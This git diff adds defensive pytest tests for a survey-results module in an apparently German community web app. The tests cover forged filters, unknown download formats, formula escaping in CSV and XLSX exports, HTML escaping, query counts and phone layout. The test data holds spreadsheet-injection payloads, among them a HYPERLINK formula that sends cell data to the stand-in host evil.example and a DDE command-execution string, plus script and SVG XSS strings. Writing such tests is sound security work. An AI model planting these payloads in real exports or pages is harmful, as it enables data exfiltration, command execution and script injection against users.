@@ -24,6 +24,7 @@ import datetime
 import io
 import threading
 import zlib
+from collections.abc import Callable
 
 import icalendar
 import pytest
@@ -1111,3 +1112,158 @@ def test_on_a_phone_in_arabic_the_limit_says_why_and_keeps_what_was_typed(
     expect(page.locator(f"#id_q{q['scale'].pk}_0")).to_be_checked()
     fits_the_phone(page)
     cache.clear()
+
+
+# --- (9) surveys: the results, their downloads and the concern made of an answer ----------------------------------
+
+
+def _results_url(survey: object, suffix: str = "") -> str:
+    return f"/gebiet/{survey.area.slug}/umfragen/{survey.pk}/ergebnisse/{suffix}"  # type: ignore[attr-defined]
+
+
+def _answered_survey(area: Quartier, today: datetime.date, *texts: str) -> object:
+    """A public survey of every kind with one questionnaire per text (and one without a text)."""
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    survey = survey_of_every_kind(area)
+    q = by_kind(survey)
+    for text in texts:
+        submit_response(survey, {q["scale"].pk: "3", q["text"].pk: text}, language="de", today=today)
+    submit_response(survey, {q["scale"].pk: "5"}, language="ar", today=today)
+    return survey
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["language=xx", "language=", "date_from=2026-12-31&date_to=2026-01-01", "date_from=0001-01-01",
+     "date_to=9999-12-31", "date_from=٢٠٢٦-٠١-٠١", "date_from=10000-01-01", "date_from=2026-02-30",
+     "date_from=%00", "date_to=" + "9" * 500, "language=de&language=ar", "page=0", "page=-1", "page=abc",
+     "page=99999999999999999999999", "page=%00", "export=csv"],
+)  # fmt: skip
+def test_forged_filters_answer_the_results_texts_and_downloads_never_a_server_error(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, query: str
+) -> None:
+    from tests.activation.survey_fixtures import by_kind
+
+    survey = _answered_survey(area, today, "Mehr Bänke")
+    text = by_kind(survey)["text"]
+    client.force_login(role_users["koordination"])
+    for suffix in ("", f"fragen/{text.pk}/texte/", "zusammenfassung.csv", "antworten.xlsx", "antworten.csv"):
+        response = client.get(_results_url(survey, suffix) + "?" + query)
+        assert response.status_code in (200, 404), (suffix, query, response.status_code)
+
+
+@pytest.mark.parametrize("fmt", ["pdf", "CSV", "Xlsx", "csv%00", "csv.", "csv/", "json", "%2e%2e", "c sv"])
+def test_an_unknown_download_format_is_not_found(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date, fmt: str
+) -> None:
+    survey = _answered_survey(area, today, "Mehr Bänke")
+    client.force_login(role_users["steuerung"])
+    for name in ("zusammenfassung", "antworten"):
+        assert client.get(_results_url(survey, f"{name}.{fmt}")).status_code == 404, (name, fmt)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+            "\t=1+1", "\r=1+1", "\x01=1+1"]  # fmt: skip
+
+
+def test_formulas_in_free_texts_stay_text_in_both_downloads(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    survey = _answered_survey(area, today, *FORMULAS)
+    client.force_login(role_users["gwa"])
+    raw = client.get(_results_url(survey, "antworten.csv"))
+    assert raw.status_code == 200
+    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [row[-1] for row in rows[1:] if row[-1]]
+    assert len(cells) == len(FORMULAS)
+    assert all(cell.startswith("'") for cell in cells), cells
+    book = load_workbook(io.BytesIO(client.get(_results_url(survey, "antworten.xlsx")).content))
+    values = [row[-1] for row in book.active.iter_rows(min_row=2, values_only=True) if row[-1]]
+    assert len(values) == len(FORMULAS)
+    assert all(isinstance(value, str) and value.startswith("'") for value in values), values
+    assert not any(cell.data_type == "f" for row in book.active.iter_rows() for cell in row)
+
+
+def test_script_and_direction_overrides_in_free_texts_stay_text_on_the_results(
+    client: Client, area: Quartier, role_users: dict[str, User], today: datetime.date
+) -> None:
+    from tests.activation.survey_fixtures import by_kind
+
+    attack = '<script>alert(1)</script><svg onload=alert(2)>"\u202egnp.exe'
+    survey = _answered_survey(area, today, attack)
+    client.force_login(role_users["gwa"])
+    for suffix in ("", f"fragen/{by_kind(survey)['text'].pk}/texte/"):
+        page = client.get(_results_url(survey, suffix)).content.decode()
+        assert "<script>alert" not in page and "<svg onload" not in page
+        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+def test_the_results_cost_the_same_queries_with_no_answer_and_with_five_thousand(
+    client: Client,
+    area: Quartier,
+    role_users: dict[str, User],
+    today: datetime.date,
+    assert_constant_queries: Callable[..., int],
+) -> None:
+    from activation.models import Answer, Response
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    client.force_login(role_users["planung"])
+    for suffix in ("", "?language=ar&date_from=2020-01-01", "fragen/{text}/texte/", "fragen/{text}/texte/?page=9",
+                   "zusammenfassung.csv", "antworten.xlsx"):  # fmt: skip
+        survey = survey_of_every_kind(area, title=f"Umfrage {suffix}")
+        q = by_kind(survey)
+        choices = list(q["multiple"].choices.all())
+
+        def grow(survey: object = survey, q: dict[str, object] = q, choices: list[object] = choices) -> None:
+            responses = Response.objects.bulk_create(
+                Response(
+                    survey=survey,
+                    submitted_on=today - datetime.timedelta(days=n % 200),
+                    language=("de", "ar")[n % 2],
+                )
+                for n in range(5000)
+            )
+            Answer.objects.bulk_create(
+                answer
+                for n, response in enumerate(responses)
+                for answer in (
+                    Answer(response=response, question=q["scale"], number=1 + n % 5),
+                    Answer(response=response, question=q["multiple"], choice=choices[n % 3]),
+                    Answer(response=response, question=q["number"], number=n % 100),
+                    Answer(response=response, question=q["text"], text=f"Idee {n}"),
+                )
+            )
+
+        if "texte" in suffix:  # an empty list makes no query for its rows (the paginator's count is 0): one text
+            submit_response(survey, {q["scale"].pk: "3", q["text"].pk: "Eine Idee"}, today=today)
+        link = _results_url(survey, suffix.format(text=q["text"].pk))
+        assert_constant_queries(lambda link=link: client.get(link), grow)
+
+
+@pytest.mark.browser
+def test_a_five_thousand_character_text_fits_a_phone_on_the_results_its_list_and_the_concern_form(
+    phone_page, visit, browser_login, area: Quartier, today: datetime.date
+) -> None:
+    from activation.models import Answer
+    from activation.survey_services import submit_response
+    from tests.activation.survey_fixtures import by_kind, survey_of_every_kind
+
+    page = phone_page
+    survey = survey_of_every_kind(area, title="Umfrage" + "Donaudampfschifffahrt" * 8)
+    q = by_kind(survey)
+    long = "Straßenbeleuchtungsreparaturauftrag" * 143  # 5,005 characters without a space
+    submit_response(survey, {q["scale"].pk: "3", q["text"].pk: long[:5000]}, language="de", today=today)
+    submit_response(survey, {q["scale"].pk: "4", q["text"].pk: "\u202eمرحبا " + long[:300]}, language="ar", today=today)
+    given = Answer.objects.get(question=q["text"], text=long[:5000])
+    browser_login(page, user_with_role(area, Role.GEMEINWESENARBEIT, username="gwa-user"))
+    for url in (
+        _results_url(survey),
+        _results_url(survey, f"fragen/{q['text'].pk}/texte/"),
+        _results_url(survey, f"antworten/{given.pk}/anliegen/"),
+    ):
+        visit(page, url)
+        assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"], url
